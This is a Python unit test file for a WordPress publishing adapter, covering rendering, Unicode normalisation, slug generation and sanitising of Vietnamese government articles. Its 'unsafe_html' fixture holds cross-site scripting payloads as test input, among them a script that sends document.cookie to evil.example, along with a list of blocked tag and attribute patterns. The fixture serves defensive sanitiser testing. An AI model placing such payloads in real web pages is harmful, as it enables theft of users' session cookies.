"""Golden files of what the WordPress adapter would post (render is pure: no server needed).

Regenerate after an intended change with ``LOA_UPDATE_GOLDEN=1 pytest tests/unit/test_render_wordpress.py``
and review the diff.
"""

from __future__ import annotations

import json
import os
import unicodedata
from pathlib import Path
from typing import Any

import pytest

from channels.base import ArticleView, Draft, ImageRef
from channels.wordpress import WordPressChannel, WordPressSettings, clean_html

GOLDEN = Path(__file__).parent / "golden" / "wordpress"
NFD = lambda text: unicodedata.normalize("NFD", text)  # noqa: E731 - Word often sends this form

LONG_TITLE = (
    "Sở Ngoại vụ tỉnh Lạng Sơn triển khai Kế hoạch tuyên truyền cải cách hành chính năm 2026: "
    "đẩy mạnh dịch vụ công trực tuyến toàn trình, cắt giảm thủ tục hành chính, nâng cao chỉ số "
    "PAR INDEX, SIPAS, PAPI và chuyển đổi số trong toàn ngành đối ngoại của tỉnh 🚀🇻🇳"
)

ARTICLES = {
    "long_nfd_title_emoji": ArticleView(
        id=11,
        title=NFD(LONG_TITLE),
        summary=NFD("Tóm tắt: người dân được phục vụ tốt hơn 😊"),
        body_html=NFD(
            "<h2>Kết quả</h2><p>Đã cắt giảm 30% thời gian giải quyết hồ sơ 👍.</p>"
            '<p><img src="anh-mot-cua.jpg" alt="Bộ phận một cửa"></p>'
        ),
        body_text="",
        topic="e",
        topic_label=NFD("Cắt giảm, đơn giản hóa TTHC"),
        cover=ImageRef("/srv/loa/media/11/bia.jpg", "image/jpeg", 1200, 630, 120_000),
        images=(ImageRef("/srv/loa/media/11/anh-mot-cua.jpg", "image/jpeg", 800, 600, 90_000),),
    ),
    "unsafe_html": ArticleView(
        id=12,
        title="Hội nghị trực tuyến về chỉ số PAR INDEX",
        summary="Hội nghị tổng kết.",
        body_html='<p onclick="steal()" style="color:red">Nội dung <b>quan trọng</b></p>'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<iframe src="https://evil.example/embed"></iframe>'
        '<a href="javascript:alert(1)">bấm vào đây</a> <a href="https://dichvucong.gov.vn">DVC</a>'
        '<img src="x.png" onerror="alert(1)"><object data="x.swf"></object>',
        body_text="",
        topic="c",
        topic_label="Vai trò người đứng đầu",
    ),
    "empty_after_sanitising": ArticleView(
        id=13,
        title="Bài chỉ có mã độc",
        summary="",
        body_html="<script>alert(1)</script><iframe></iframe>",
        body_text="",
        topic="a",
        topic_label="Văn bản về CCHC",
        cover=ImageRef("/srv/loa/media/13/bia.bmp", "image/bmp"),
    ),
}


def channel() -> WordPressChannel:
    settings = WordPressSettings(
        type="wordpress",
        url="https://example.gov.vn/wp-json",
        username="loa",
        hashtags=["#CCHC", "Lạng Sơn"],
        categories={"e": "Thủ tục hành chính"},
    )
    return WordPressChannel("website", settings)


def as_golden(draft: Draft) -> dict[str, Any]:
    return {
        "title": draft.title,
        "text": draft.text,
        "html": draft.html,
        "images": [img.path for img in draft.images],
        "payload": dict(draft.payload),
        "checks": [
            {"name": c.name, "ok": c.ok, "blocking": c.blocking, "message": c.message}
            for c in draft.checks
        ],
        "fingerprint": draft.fingerprint,
    }


@pytest.mark.parametrize("case", sorted(ARTICLES))
def test_render_matches_golden_file(case: str) -> None:
    got = as_golden(channel().render(ARTICLES[case], {}))
    path = GOLDEN / f"{case}.json"
    if os.environ.get("LOA_UPDATE_GOLDEN"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(got, ensure_ascii=False, indent=2) + "\n", "utf-8")
    assert got == json.loads(path.read_text("utf-8"))


def test_decomposed_input_comes_out_composed_and_slug_has_no_diacritics() -> None:
    draft = channel().render(ARTICLES["long_nfd_title_emoji"], {})
    for text in (
        draft.title,
        draft.text,
        draft.html,
        draft.payload["excerpt"],
        *draft.payload["tags"],
    ):
        assert unicodedata.is_normalized("NFC", text)
    assert draft.payload["slug"].isascii() and draft.payload["slug"].startswith(
        "so-ngoai-vu-tinh-lang-son-"
    )
    assert len(draft.payload["slug"]) <= 80
    title_check = next(c for c in draft.checks if c.name == "title_length")
    assert not title_check.ok and not title_check.blocking and draft.refusals == []


@pytest.mark.parametrize(
    "bad", ["<script", "onclick", "onerror", "<iframe", "javascript:", "<object", "style="]
)
def test_sanitiser_removes_active_content(bad: str) -> None:
    draft = channel().render(ARTICLES["unsafe_html"], {})
    assert bad not in draft.html
    assert bad not in clean_html(ARTICLES["unsafe_html"].body_html)


def test_empty_content_and_unsupported_image_block_approval() -> None:
    refusals = {c.name for c in channel().render(ARTICLES["empty_after_sanitising"], {}).refusals}
    assert refusals == {"content", "image_type"}


def test_category_keys_must_be_plan_topics() -> None:
    base = {"type": "wordpress", "url": "https://example.gov.vn/wp-json", "username": "loa"}
    assert WordPressSettings.model_validate({**base, "categories": {"Đ ": "DVC"}}).categories == {
        "đ": "DVC"
    }
    with pytest.raises(ValueError, match="unknown plan topic"):
        WordPressSettings.model_validate({**base, "categories": {"k": "Khác"}})
